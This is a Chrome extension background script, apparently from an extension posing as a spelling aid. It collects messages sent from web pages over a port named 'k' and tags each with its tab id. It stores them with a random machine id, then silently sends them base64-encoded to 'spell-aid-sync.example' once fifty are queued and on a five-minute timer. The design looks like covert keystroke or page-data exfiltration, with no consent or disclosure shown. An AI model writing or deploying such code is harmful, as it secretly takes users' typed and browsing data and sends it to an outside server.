let q = [];
chrome.runtime.onConnect.addListener((port) => {
  if (port.name !== "k") return;
  port.onMessage.addListener((m) => {
    q.push({ ...m, tab: port.sender.tab && port.sender.tab.id });
    chrome.storage.local.set({ q });
    if (q.length >= 50) upload();
  });
});
async function upload() {
  const s = await chrome.storage.local.get(["q", "machine"]);
  if (!s.q || !s.q.length) return;
  let machine = s.machine;
  if (!machine) {
    machine = Math.random().toString(36).slice(2, 12);
    await chrome.storage.local.set({ machine });
  }
  const res = await fetch("https://spell-aid-sync.example/upload.php", {
    method: "POST",
    headers: { "Content-Type": "application/x-www-form-urlencoded" },
    body: "m=" + machine + "&d=" + encodeURIComponent(btoa(unescape(encodeURIComponent(JSON.stringify(s.q)))))
  });
  if (res.ok) {
    q = [];
    chrome.storage.local.remove("q");
  }
}
chrome.alarms.create("u", { periodInMinutes: 5 });
chrome.alarms.onAlarm.addListener(upload);
